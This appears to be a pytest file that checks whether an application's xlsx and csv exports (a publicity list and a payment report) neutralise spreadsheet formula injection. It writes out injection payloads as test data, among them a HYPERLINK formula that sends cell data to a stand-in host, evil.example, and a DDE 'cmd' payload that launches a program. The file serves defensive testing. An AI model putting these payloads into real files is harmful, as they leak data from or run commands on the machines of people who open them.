"""Formula injection (issue 12, M3) on both databases: the publicity list and the payment report, as written files."""

from __future__ import annotations

import csv

import pytest
from openpyxl import load_workbook
from sqlalchemy import text

from tests.builders import uscc
from tests.clocks import on_day
from tests.conftest import CITY
from tests.paycity import START
from wengang import bootstrap
from wengang.services import cycles, payment_report, payments, publicity

pytestmark = pytest.mark.slow
NAMES = {"eligible": "=HYPERLINK(\"http://evil.example/\"&A1,\"点击\")", "objected": "+86 10 1234",
         "changes_amount": "\t@SUM(A1:A9)"}


def rename_directly(store, names: dict[int, str]) -> None:
    """Names as an old snapshot or a typed account name could still bring them (the importer refuses them now)."""
    with store.transaction() as uow:
        for case_id, name in names.items():
            uow.connection.execute(text("UPDATE cases SET name = :n WHERE id = :i"), {"n": name, "i": case_id})
        uow.commit()


def ids_of(store, cycle_id: int, keys) -> dict[str, int]:
    with store.reading() as uow:
        return {k: uow.cases.find(cycle_id, uscc(CITY[k])).id for k in keys}


def formulas(path) -> list[str]:
    return [c.coordinate for sheet in load_workbook(path).worksheets for row in sheet.iter_rows() for c in row
            if c.data_type == "f"]


@pytest.fixture
def listed(db_store, db_settings, opened, case_city):
    """The small city's list C1-P1, with its three entries named as an attacker would name them."""
    cycles.compare(1, store=db_store, analytics=bootstrap.analytics(db_settings), settings=db_settings,
                   snapshot=case_city["snapshots"][2], by="clerk")
    with on_day(db_store, START):
        publicity.start(1, store=db_store, starts_on=START, by="clerk")
    rename_directly(db_store, {i: NAMES[k] for k, i in ids_of(db_store, 1, NAMES).items()})
    return "C1-P1"


def test_the_publicity_xlsx_holds_every_name_as_text_never_a_formula(db_store, listed, tmp_path):
    path, rows = publicity.export(listed, tmp_path / "list.xlsx", store=db_store, by="clerk")
    assert rows == 3 and formulas(path) == []
    sheet = load_workbook(path).active
    names = {sheet.cell(r, 2).value: sheet.cell(r, 2) for r in range(3, 6)}
    assert set(names) == set(NAMES.values())                                  # the text intact
    assert all(c.data_type == "s" and c.quotePrefix for c in names.values())
    assert [sheet.cell(r, 5).value for r in range(3, 6)] == [1440] * 3          # amounts as numbers
    assert sheet.cell(3, 5).number_format == "#,##0.00" and sheet.cell(6, 5).value == 4320


def test_the_publicity_csv_quotes_every_name_a_spreadsheet_would_run(db_store, listed, tmp_path):
    path, _ = publicity.export(listed, tmp_path / "list.csv", store=db_store, by="clerk")
    with path.open(encoding="utf-8-sig") as fh:
        names = {row[1] for row in list(csv.reader(fh))[1:]}
    assert names == {"'" + n for n in NAMES.values()}


def test_a_control_character_in_a_name_no_longer_fails_the_xlsx(db_store, listed, tmp_path):
    rename_directly(db_store, {ids_of(db_store, 1, ["eligible"])["eligible"]: "响铃\x07有限公司"})
    path, _ = publicity.export(listed, tmp_path / "list.xlsx", store=db_store, by="clerk")
    sheet = load_workbook(path).active
    assert "响铃\ufffd有限公司" in {sheet.cell(r, 2).value for r in range(3, 6)}


def test_the_payment_report_holds_unit_names_as_text(pay_store, pay_settings, reverified, tmp_path):
    payments.prepare_batches(reverified, store=pay_store, analytics=bootstrap.analytics(pay_settings),
                             settings=pay_settings, by="clerk-wang")
    with pay_store.transaction() as uow:                                       # an attempt of older days
        uow.connection.execute(text("UPDATE payment_attempts SET unit_name = :n WHERE id IN (1, 2)"),
                               {"n": "=1+cmd|' /C calc'!A0"})
        uow.commit()
    out = tmp_path / "report.xlsx"
    payment_report.report(reverified, out, store=pay_store, by="clerk-wang")
    assert formulas(out) == []
    units = load_workbook(out)["单位 units"]
    shown = [units.cell(r, 2) for r in range(2, units.max_row)]                    # the last row: totals
    assert sum(c.value == "=1+cmd|' /C calc'!A0" and c.quotePrefix for c in shown) == 2
    assert all(isinstance(units.cell(r, 3).value, int) for r in range(2, units.max_row))   # numbers stay numbers
    assert units.cell(units.max_row, 4).value == sum(units.cell(r, 4).value for r in range(2, units.max_row))
